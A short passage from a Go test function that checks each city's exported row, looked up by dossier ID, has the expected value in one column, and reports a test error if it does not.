		if rs := rows[e.cities[name].Dossier.ID]; len(rs) != 1 || rs[0][6] != want {
			t.Errorf("%s exported as %q, want %s", name, rs, want)
		}
	}
}
